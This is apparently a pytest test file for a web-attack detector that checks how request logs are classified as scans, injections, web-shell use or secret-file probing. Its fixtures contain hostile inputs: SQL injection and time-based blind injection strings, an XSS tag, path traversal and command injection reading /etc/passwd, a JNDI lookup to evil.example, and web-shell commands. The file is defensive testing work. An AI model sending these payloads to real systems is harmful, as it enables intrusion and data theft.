from urllib.parse import quote

import pytest

from tests.unit.hunt.patterns.made import START, holds_its_word, request, said
from vedette.core.errors import BadInput
from vedette.core.levels import Severity
from vedette.hunt.event import Event
from vedette.hunt.instants import MINUTE, SECOND
from vedette.hunt.patterns.web.attacks import WebAttacks

VISITORS = [
    request(f"/item?id={number}", "198.51.100.7", START + number * SECOND, bytes_in=5_000 + number)
    for number in range(20)
]


def attack(payload: str, **more: object) -> Event:
    return request(f"/item?id={quote(payload)}", **more)  # type: ignore[arg-type]


def test_honest_visitors_are_nobodys_attack() -> None:
    assert said(WebAttacks(), VISITORS) == []


def test_an_attack_is_told_once_for_a_source_and_a_site() -> None:
    events = [
        *VISITORS,
        *(attack("1' or '1'='1", time=START + number * MINUTE, status=500) for number in range(4)),
    ]
    (found,) = holds_its_word(WebAttacks, events)
    assert found.count == 4
    assert [one.name for one in found.actors] == ["203.0.113.9"]
    assert [one.name for one in found.targets] == ["shop.example"]
    assert found.severity is Severity.MEDIUM
    assert found.techniques == ("T1190",)
    assert found.numbers["outcome"] == 2
    assert "quote" not in found.message
    assert "1' or '1'='1" in found.message


def test_an_answer_unlike_all_others_suggests_success() -> None:
    (found,) = said(
        WebAttacks(), [*VISITORS, attack("1' union select null,password from users-- -", bytes_in=60_000)]
    )
    assert found.severity is Severity.HIGH
    assert "seems to have worked" in found.title
    assert found.numbers["usual_size"] == 5_010


@pytest.mark.parametrize("size", [5_001, 5_150])
def test_an_answer_like_others_does_not(size: int) -> None:
    (found,) = said(WebAttacks(), [*VISITORS, attack("1' or '1'='1", bytes_in=size)])
    assert found.severity is Severity.MEDIUM
    assert found.numbers["outcome"] == 1


def test_a_page_for_anything_does_not() -> None:
    events = [request(f"/p{number}?q=../../../../etc/passwd", bytes_in=900) for number in range(5)]
    (found,) = said(WebAttacks(), events)
    assert found.numbers["outcome"] == 0


def test_a_server_that_waits_as_told_suggests_success() -> None:
    quick = [request("/item?id=1", "198.51.100.7", bytes_in=5, duration=20_000) for _ in range(6)]
    slow = attack("1' and sleep(5)-- -", bytes_in=5, duration=5_100_000)
    (found,) = said(WebAttacks(), [*quick, slow])
    assert found.numbers["asked_s"] == 5
    assert found.severity is Severity.HIGH


def test_a_scanner_is_noise() -> None:
    payloads = ("1' or '1'='1", "<script>alert(1)</script>", "../../../../etc/passwd", ";cat /etc/passwd")
    events = [
        request(
            f"/{number}.php?x={quote(payloads[number % 4])}",
            time=START + number * SECOND,
            status=404,
            bytes_in=9,
        )
        for number in range(40)
    ]
    (found,) = holds_its_word(WebAttacks, events)
    assert found.severity is Severity.LOW
    assert found.techniques == ("T1595.002",)


def test_a_tool_that_names_itself_is_a_scanner() -> None:
    (found,) = said(
        WebAttacks(), [attack("1' or '1'='1", user_agent=("sqlmap/1.8#stable (https://sqlmap.org)"))]
    )
    assert found.numbers["scanner"] == "sqlmap"


def test_headers_are_read_too() -> None:
    (found,) = said(WebAttacks(), [request("/", user_agent="${jndi:ldap://evil.example/a}")])
    assert "JNDI lookup" in found.title
    assert found.places[0].quote == "${jndi:ldap://evil.example/a}"


def test_a_shell_that_answers_is_there() -> None:
    events = [
        request(f"/up/cmd.jsp?cmd={command}", time=START + MINUTE, bytes_in=40)
        for command in ("whoami", "ls+-la")
    ]
    (found,) = said(WebAttacks(), events)
    assert found.severity is Severity.HIGH
    assert "T1505.003" in found.techniques


def test_two_secret_files_that_are_not_there_are_no_attack_yet() -> None:
    events = [request(path, status=404) for path in ("/.env", "/.git/config")]
    assert said(WebAttacks(), events) == []
    (found,) = said(WebAttacks(), [*events, request("/dump.sql", status=404)])
    assert found.numbers["paths"] == 3


def test_a_monitor_inside_and_a_file_everybody_gets_are_no_attack() -> None:
    assert said(WebAttacks(), [request("/server-status?auto", "10.0.0.9") for _ in range(50)]) == []
    public = [
        request("/files/dump.sql", f"203.0.113.{number}", bytes_in=9_000 + number) for number in range(4)
    ]
    assert said(WebAttacks(), public) == []
    assert len(said(WebAttacks(), public[:1])) == 1


def test_who_goes_fast_through_names_is_searching_and_who_is_slow_is_not() -> None:
    def missing(apart: int) -> list[Event]:
        return [request(f"/x{number}", time=START + number * apart, status=404) for number in range(50)]

    (found,) = holds_its_word(WebAttacks, missing(SECOND))
    assert found.rule == "pattern:web-searches"
    assert found.numbers["different_paths"] == 50
    assert said(WebAttacks(), missing(MINUTE)) == []


def test_requests_without_anything_are_taken() -> None:
    assert (
        said(
            WebAttacks(),
            [
                request("/"),
                Event(source=0, record=1, logsource=VISITORS[0].logsource, fields={}, action=("http")),
            ],
        )
        == []
    )


def test_a_baseline_of_something_else_is_refused() -> None:
    with pytest.raises(BadInput):
        WebAttacks().restore(b"\x93\x01")
